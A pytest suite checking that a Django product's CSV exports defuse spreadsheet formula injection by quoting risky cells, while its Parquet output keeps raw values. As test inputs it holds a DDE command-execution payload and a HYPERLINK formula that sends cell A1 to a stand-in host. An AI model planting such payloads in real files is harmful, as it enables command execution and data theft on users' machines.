"""Every CSV the product writes is spreadsheet-safe; Parquet keeps the raw value (issue 11.4).

OWASP's rule: a text cell starting with =, +, -, @, a tab or a carriage return is written
with a ' in front. Numeric columns are not text cells and are written as they are.
"""

import csv
import io
import json
from datetime import date

import polars as pl
import pytest
from django.core.management import call_command

from earlyhelp.extracts.database import extract_from_records
from earlyhelp.extracts.output import all_or_nothing
from earlyhelp.lib import spreadsheet
from earlyhelp.lib.spreadsheet import neutralise_cell, neutralise_frame, text_columns
from earlyhelp.policy.loader import load_policy
from earlyhelp.policy.render import ropa

HYPERLINK = '=HYPERLINK("http://example.org","x")'
DDE = "+cmd|' /C calc'!A0"
ON = date(2026, 11, 25)

CELLS = [
    (HYPERLINK, "'" + HYPERLINK),
    (DDE, "'" + DDE),
    ("-3", "'-3"),  # a text cell: OWASP neutralises any leading -
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+2", "'\t=1+2"),
    ("\r=1+2", "'\r=1+2"),
    ("a=b", "a=b"),
    ("'=already text", "'=already text"),
    ("Zoë", "Zoë"),
    ("", ""),
    (" =1", " =1"),
]


@pytest.mark.parametrize(("value", "written"), CELLS)
def test_cell_a_spreadsheet_would_run_gets_a_quote_in_front(value, written):
    assert neutralise_cell(value) == written


@pytest.mark.parametrize("value", [None, -3, 2.5, date(2000, 1, 1)])
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert neutralise_cell(value) == value


def test_column_rule_and_cell_rule_agree():
    frame = pl.LazyFrame({"text": [v for v, _ in CELLS] + [None]})
    out = neutralise_frame(frame, ["text"]).collect()["text"].to_list()
    assert out == [w for _, w in CELLS] + [None]


def test_numeric_columns_are_not_text_cells():
    schema = pl.Schema({"n": pl.Int64, "x": pl.Float64, "d": pl.Date, "s": pl.String})
    assert text_columns(schema) == ["s"]


def test_csv_neutralises_text_cells_keeps_numbers_and_counts_each_column(tmp_path):
    frame = pl.LazyFrame(
        {"text": [HYPERLINK, "-3", "plain", None], "number": [-3, 4, -5, None], "other": "x"}
    )
    with all_or_nothing() as files:
        written = files.frame(frame, tmp_path / "out.csv")
    rows = list(csv.DictReader(io.StringIO((tmp_path / "out.csv").read_text())))
    assert [r["text"] for r in rows] == ["'" + HYPERLINK, "'-3", "plain", ""]
    assert [r["number"] for r in rows] == ["-3", "4", "-5", ""]
    assert written.neutralised == {"text": 2, "other": 0}
    safety = written.manifest_entry()["spreadsheet_safety"]
    assert safety == {"rule": spreadsheet.RULE, "cells_neutralised": {"text": 2, "other": 0}}
    assert written.rows == 4


def test_parquet_keeps_the_raw_value_and_says_so(tmp_path):
    frame = pl.LazyFrame({"text": [HYPERLINK, DDE, "-3"]})
    with all_or_nothing() as files:
        written = files.frame(frame, tmp_path / "out.parquet")
    assert pl.read_parquet(tmp_path / "out.parquet")["text"].to_list() == [HYPERLINK, DDE, "-3"]
    assert written.manifest_entry()["spreadsheet_safety"] == {"rule": spreadsheet.PARQUET_RULE}


@pytest.fixture
def formula_return(tmp_path):
    """/work/shared/cases/f5_formula.csv with the issue's two formulas in a kept column."""
    mapping = tmp_path / "map.toml"
    mapping.write_text(
        'date_format = "%d/%m/%Y"\n[columns]\nCHILD = "person-reference"\n'
        'DOB = "date-of-birth"\nPOSTCODE = "postcode"\nSEX = "keep"\n'
    )
    source = tmp_path / "f5_formula.csv"
    source.write_text(
        "CHILD,DOB,POSTCODE,SEX\n"
        '1,01/02/2010,NW5 2AB,"=HYPERLINK(""http://x.example/?""&A1,""x"")"\n'
        f'2,01/02/2010,NW5 2AB,"{DDE}"\n'
        "3,01/02/2010,NW5 2AB,-3\n"
        "4,01/02/2010,NW5 2AB,1\n"
    )
    return mapping, source


def _pseudonymise(mapping, source, out):
    call_command(
        "pseudonymise", "--project", "liia", "--map", str(mapping), "--on", "2026-11-25",
        str(source), str(out),
    )  # fmt: skip


@pytest.mark.django_db
def test_pseudonymised_csv_neutralises_formulas_in_a_kept_column(
    keys_dir, tmp_path, formula_return
):
    out = tmp_path / "out.csv"
    _pseudonymise(*formula_return, out)
    kept = pl.read_csv(out, infer_schema=False)["SEX"].to_list()
    assert kept == ['\'=HYPERLINK("http://x.example/?"&A1,"x")', "'" + DDE, "'-3", "1"]
    manifest = json.loads((tmp_path / "out-manifest.json").read_text())
    (entry,) = manifest["files"]
    assert entry["spreadsheet_safety"]["rule"] == spreadsheet.RULE
    assert entry["spreadsheet_safety"]["cells_neutralised"] == {
        "CHILD": 0,
        "DOB": 0,
        "POSTCODE": 0,
        "SEX": 3,
    }


@pytest.mark.django_db
def test_pseudonymised_parquet_keeps_the_formula_text_as_it_was(keys_dir, tmp_path, formula_return):
    out = tmp_path / "out.parquet"
    _pseudonymise(*formula_return, out)
    kept = pl.read_parquet(out)["SEX"].to_list()
    assert kept == ['=HYPERLINK("http://x.example/?"&A1,"x")', DDE, "-3", "1"]


@pytest.mark.django_db
def test_database_extract_csv_is_spreadsheet_safe_and_its_parquet_untouched(
    family, case, keys_dir, tmp_path
):
    extract = extract_from_records("liia", tmp_path, ON)
    entries = {f["format"]: f["spreadsheet_safety"] for f in extract.manifest["files"]}
    assert entries["csv"]["rule"] == spreadsheet.RULE
    assert set(entries["csv"]["cells_neutralised"]) == {
        "person-reference",
        "date-of-birth",
        "postcode",
    }
    assert entries["parquet"] == {"rule": spreadsheet.PARQUET_RULE}


def test_record_of_processing_csv_is_spreadsheet_safe(monkeypatch):
    camden = load_policy("policies/camden.toml")
    rows = [{"purpose": "=1+2", "notes": "- a dash list", "count": 3}]
    monkeypatch.setattr(ropa, "ropa_rows", lambda policy: rows)
    written = list(csv.DictReader(io.StringIO(ropa.ropa_csv(camden))))
    assert written == [{"purpose": "'=1+2", "notes": "'- a dash list", "count": "3"}]
